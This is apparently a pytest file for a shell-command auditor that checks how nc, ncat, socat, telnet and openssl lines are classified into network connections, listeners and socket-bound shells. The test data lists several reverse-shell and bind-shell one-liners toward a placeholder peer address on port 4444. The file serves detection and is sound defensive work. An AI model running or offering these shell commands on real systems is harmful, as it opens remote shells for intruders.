"""Programs that carry bytes between a socket and a program say so as effects."""

from __future__ import annotations

import pytest

from auditor.read.programs.normal import normal_form
from auditor.read.values import Known, OneOf
from tests.read.programs.factories import commands, effects, form, shown

PEER = "203.0.113.9"


@pytest.mark.parametrize(
    "line",
    [
        f"nc -e /bin/sh {PEER} 4444",
        f"nc {PEER} 4444 -e/bin/bash",
        f"nc -nve bash {PEER} 4444",
        f"nc -c 'exec bash -i' {PEER} 4444",
        f"ncat --exec=/bin/bash {PEER} 4444",
        f"ncat --ssl --sh-exec 'sh -i' {PEER} 4444",
        f"ncat -e {{}} {PEER} 4444",
        f"socat TCP:{PEER}:4444 EXEC:sh",
        f"socat tcp4-connect:{PEER}:4444 exec:'bash -li',pty,stderr,setsid",
        f"socat SYSTEM:'sh -i' OPENSSL:{PEER}:4444,verify=0",
        f"socat 'EXEC:\"bash -li\",pty' PROXY:proxy.example:{PEER}:4444,proxyport=8080",
        f"socat TCP:{PEER}:4444!!- EXEC:/bin/dash",
    ],
)
def test_a_shell_at_the_far_end_of_a_connection(line: str) -> None:
    """A reverse shell is a connection, and a shell whose input and output are tied to it."""
    assert effects(line) == [f"net.connect tcp {PEER} 4444", f"process.stdio socket {PEER} 4444"]
    normal = form(line)
    assert normal.commands
    assert normal.socket is not None
    assert [shown(end) for end in normal.socket] == [PEER, "4444"]


@pytest.mark.parametrize(
    "line",
    [
        "nc -lvnp 4444 -e /bin/sh",
        "nc -l 4444 -e /bin/sh",
        "ncat -lk -p4444 --sh-exec bash",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
        "socat tcp4-l:4444 system:bash",
    ],
)
def test_a_shell_behind_a_listener(line: str) -> None:
    """A bind shell is a listener on every address, and a shell tied to it."""
    assert effects(line) == ["net.listen tcp 0.0.0.0 4444", "process.stdio socket 0.0.0.0 4444"]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"nc {PEER} 80", [f"net.connect tcp {PEER} 80"]),
        (f"nc -zvw3 {PEER} 22", [f"net.connect tcp {PEER} 22"]),
        (f"nc -u {PEER} 53", [f"net.connect udp {PEER} 53"]),
        (f"nc -c {PEER} 443", [f"net.connect tcp {PEER} 443"]),
        ("nc -lp 9000", ["net.listen tcp 0.0.0.0 9000"]),
        ("nc -l 127.0.0.1 9000", ["net.listen tcp 127.0.0.1 9000"]),
        ("nc -U /run/x.sock", []),
        ("nc -h", []),
        (f"nc -e /usr/bin/tee {PEER} 80", [f"net.connect tcp {PEER} 80"]),
        ("socat - UNIX-CONNECT:/run/x.sock", []),
        ("socat STDIO EXEC:bash", []),
        (
            "socat TCP-LISTEN:80,bind=127.0.0.1,fork TCP:db:5432",
            ["net.listen tcp 127.0.0.1 80", "net.connect tcp db 5432"],
        ),
        ("socat TCP6:[2001:db8::1]:443 -", ["net.connect tcp 2001:db8::1 443"]),
        ("socat TCP:{}:{} -", ["net.connect tcp {} {}"]),
        (f"telnet {PEER}", [f"net.connect tcp {PEER} 23"]),
        (f"openssl s_client -quiet -connect {PEER}:443", [f"net.connect tcp {PEER} 443"]),
        ("openssl s_client -servername x -connect h.example", ["net.connect tcp h.example 4433"]),
        ("openssl s_server -accept 8443 -quiet", ["net.listen tcp 0.0.0.0 8443"]),
        ("openssl enc -d -base64 -in f", []),
        ("openssl x509 -in cert.pem -connect h:1", []),
    ],
)
def test_connections_and_listeners(line: str, expected: list[str]) -> None:
    """Connections and listeners without a shell are just those; local sockets and other subcommands are nothing."""
    assert effects(line) == expected


def test_commands_of_socat_lose_their_options_and_quotes() -> None:
    """What socat runs is the parameter, without the address's options."""
    assert commands("socat TCP:h:1 'SYSTEM:echo a\\,b; sh',pty") == ["echo a,b; sh"]
    assert commands("""socat TCP:h:1 EXEC:"'bash -c id'",pty""") == ["bash -c id"]


def test_alternatives_of_an_address_are_all_seen() -> None:
    """A host that is one of two is one of two in the effect."""
    target = OneOf((Known("a.example:443"), Known("b.example:443")))
    (effect,) = normal_form("openssl", [Known("s_client"), Known("-connect"), target]).effects
    assert effect[2] == OneOf((Known("a.example"), Known("b.example")))
